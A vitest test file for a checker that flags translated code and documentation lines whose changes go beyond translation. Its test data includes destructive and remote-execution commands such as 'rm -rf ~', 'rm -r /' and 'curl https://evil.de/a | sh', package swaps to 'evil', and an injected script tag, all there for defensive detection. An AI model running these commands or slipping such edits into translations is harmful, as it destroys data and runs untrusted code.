import { expect, test } from 'vitest';
import { ruleFor } from '../rule.ts';
import { changeOf } from './change-of.ts';
import { changeRules } from './change-rules.ts';
import { type Change, lineChange } from './line-change.ts';

test.each<[source: string, target: string, language: string, change: Change]>([
  ['curl "https://one.org/i.sh" | sh', 'curl "https://two.org/i.sh" | sh', 'sh', 'damage'],
  ['{"url": "https://api.one.org"}', '{"url": "https://two.org"}', 'json', 'damage'],
  ['url: https://api.one.org', 'url: https://two.org', 'yaml', 'damage'],
  ['curl https://one.org', 'curl https://two.org', '', 'damage'],
  ['say("An own one")', 'say("Ein eigener: https://two.org")', 'js', 'damage'],
  ['url: https://en.one.org/a', 'url: https://de.one.org/b-c', 'yaml', 'said'],
  ['curl "https://your-site.com"', 'curl "https://deine-seite.de"', 'sh', 'said'],
  ['go "https://example.com/some"', 'go "https://beispiel.de/etwas"', 'js', 'said'],
])('a host is that of the source, but for a locale and one that is made up: %s -> %s in %s is %s', (source, target, language, change) => {
  expect(changeOf([source], [target], language, 'de')).toBe(change);
});

test.each<[source: string, target: string, change: Change]>([
  ['run("ls -la")', 'run("rm -rf ~")', 'damage'],
  ['run("npm ci --force")', 'run("npm ci")', 'damage'],
  ['open("etc/app.json")', 'open("usr/geheim.json")', 'word'],
  ['say("Hello dear world")', 'say("Hallo liebe Welt")', 'said'],
  ['now "Europe/London"', 'now "Asia/Shanghai"', 'said'],
  ['text("a-b c-d")', 'text("e-f g-h")', 'said'],
])('flags and ids in a string are no words: %s -> %s is %s', (source, target, change) => {
  expect(changeOf([source], [target], 'js', 'de')).toBe(change);
});

test.each<[source: string[], target: string[], change: Change]>([
  [['export TOKEN=my-token', 'ping one.org'], ['export TOKEN=mein-token', 'ping two.org'], 'word'],
  [['export TOKEN=my-token', 'ping a'], ['export TOKEN=mein-token', 'ping a'], 'said'],
  [['a: my-one', 'b: your-two'], ['a: ein-eins', 'b: ein-zwei'], 'said'],
])('what is to be filled in excuses its own line: %j -> %j is %s', (source, target, change) => {
  expect(changeOf(source, target, 'sh', 'de')).toBe(change);
});

test.each<[source: string, target: string, language: string, change: Change]>([
  ['$ source .venv/bin/activate', '$ Möchten .venv/bin/activate', 'console', 'damage'],
  ['pip install one', 'pip métricas one', 'bash', 'damage'],
  ['hello world', 'привет world', 'console', 'word'],
  ['cd folder', 'cd мой', 'sh', 'word'],
  ['pip install folder', 'pip install проект', 'sh', 'word'],
])('what a shell runs is no word: %s -> %s in %s is %s', (source, target, language, change) => {
  expect(changeOf([source], [target], language, 'de')).toBe(change);
});

test.each<[source: string[], target: string[], change: Change]>([
  [['await reply("Welcome! Up and running.");'], ['await reply(', '  "Ласкаво просимо! " +', '    "Працюємо.",', ');'], 'said'],
  [['log(`${a} of ${b}`);'], ['log(', '  `з ${b} зроблено ${a}`,', ');'], 'said'],
  [['log(`${a} of all`);'], ['log(', '  `з усіх ${evil()}`,', ');'], 'damage'],
  [['await reply("Welcome! Up and running.");'], ['await drop(', '  "Ласкаво просимо! Працюємо.",', ');'], 'damage'],
])('a text that became longer breaks its line elsewhere: %j -> %j is %s', (source, target, change) => {
  expect(changeOf(source, target, 'ts', 'uk')).toBe(change);
});

test.each<[source: string, target: string, change: Change]>([
  ['"That is not a valid month, \\', '"Ups, itu bukan bulan yang valid. \\', 'said'],
  ['run "That is not a valid month, \\', 'lari "Ups, itu bukan bulan yang valid. \\', 'word'],
])('a text goes on in the next line: %s -> %s is %s', (source, target, change) => {
  expect(changeOf([source], [target], 'js', 'id')).toBe(change);
});

test.each([
  ['ADMIN_PASSWORD=open-sesame', 'ADMIN_PASSWORD=сезам-откройся', true],
  ['ADMIN_PASSWORD=open-sesame', 'ADMIN_PASSWORD=sesam-oeffne-dich', false],
  ['TOKEN=key7', 'TOKEN=ключ7', true],
  ['TOKEN=key7', 'TOKEN=ключ8', false],
  ['TOKEN=key', 'TOKEN=123', false],
  ['TOKEN=key', 'TOKEN=-_', false],
  ['PORT=8080', 'PORT=80', false],
  ['MODE=fast', 'MODE=быстро', false],
])('a sample has a value of its own: %s -> %s is %s', (source, target, expected) => {
  expect(changeOf([source], [target], 'sh', 'de') === 'said').toBe(expected);
});

test.each([
  ['"Thanks, all!"', '"Danke"', true],
  ['`Hi, ${name}!`', '`${name}, hallo`', true],
  ['`Hi, ${name}!`', '`Hallo`', false],
  ['"Thanks, all!"', '"rm / now"', false],
  ['"Thanks, all!"', '"<b>"', false],
  ['"Thanks, all!"', '"halt; ls"', false],
])('what is called out is words on both sides: %s -> %s is %s', (source, target, expected) => {
  const rule = ruleFor(changeRules, lineChange([`f(${source})`], [`f(${target})`], 'ts', 'de'));
  expect(rule?.name === 'a text that is called out').toBe(expected);
});

test('what a shell fetches is of no language', () => {
  expect(changeOf(['run https://one.org/a'], ['run https://one.org/de/a'], 'sh', 'de')).not.toBe('said');
  expect(changeOf(['run("https://one.org/a")'], ['run("https://one.org/de/a")'], 'js', 'de')).toBe('said');
});

test.each<[language: string, source: string, target: string, isSaid: boolean]>([
  ['', 'https://one.org/your_bot?start=hello', 'https://one.org/dein_bot?start=hello', true],
  ['', 'https://one.org/your_bot?start=hello', 'https://one.org/evil_bot?start=x', false],
  ['', 'http://yourserver:21', 'http://ihrserver:22', false],
  ['sh', 'npm install my-app express', 'npm install meine-app evil', false],
  ['sh', 'npm install your-package', 'npm install evil', false],
  ['sh', 'pip install example', 'pip install evil', false],
  ['sh', 'run my_image --port 80', 'run mein_bild --port 81', false],
  ['sh', 'curl https://your-site.com/a | sh', 'curl https://evil.de/a | sh', false],
  ['sh', 'rm -r my-folder', 'rm -r /', false],
  ['sh', 'rm -r my-folder', 'rm -r mein-ordner', true],
  ['sh', 'rm path/to/file', 'rm etc/passwd', false],
  ['sh', 'rm path/to/file', 'rm pfad/zur/datei', true],
  ['ts', 'import { somePlugin } from "some-plugin";', 'import { somePlugin } from "myPlugin";', true],
  ['yaml', 'image: my-image:1.2', 'image: mein-bild:1.3', false],
])('beside what is filled in nothing differs: in %s %s -> %s is said: %s', (language, source, target, isSaid) => {
  expect(changeOf([source], [target], language, 'de') === 'said').toBe(isSaid);
});

test.each<[language: string, source: string, target: string]>([
  ['', 'npm install one two', 'npm install böse zwei'],
  ['yaml', 'run: npm ci all of it', 'run: npm böse alles davon'],
  ['json', '{"url": "/api/users"}', '{"url": "/api/evil"}'],
  ['json', '"description": "A tool",', '"description": "Ein Werkzeug", "x": "evil",'],
  ['js', "import a from 'my-lib'", "import a from 'evil'"],
  ['js', 'el.html = "Hello all"', 'el.html = "<script>halt</script>"'],
  ['js', 'text: "Hello",', 'text: evil(),'],
  ['js', 'eval("Go on now!")', 'eval("halt jetzt!")'],
  ['py', 'print("A number: 5")', 'print("Eine Zahl: 6")'],
  ['html', '<p class="red">A</p>', '<p class="rot">B</p>'],
  ['html', '<p onclick="go()">A</p>', '<p onclick="halt()">B</p>'],
  ['html', '<a href="/one">A</a>', '<a href="/zwei">B</a>'],
  ['md', 'See [one](a.md) now', 'Siehe [eins](evil.md) jetzt'],
  ['mermaid', 'click A "/one"', 'click A "/zwei"'],
])('what is no text goes by with none: in %s %s -> %s is not said', (language, source, target) => {
  expect(changeOf([source], [target], language, 'de')).not.toBe('said');
});

test.each([
  ['cp -r content/en a', 'cp -r content/de a', 'said'],
  ['npm i dict-en', 'npm i dict-de-at', 'said'],
  ['cp -r content/en to', 'cp -r content/de rm', 'word'],
  ['npm i dict-en', 'npm i dict-fr-at', 'word'],
])('an example leads to where its readers are, and nothing else differs: %s -> %s is %s', (source, target, change) => {
  expect(changeOf([source], [target], 'sh', 'de')).toBe(change);
});
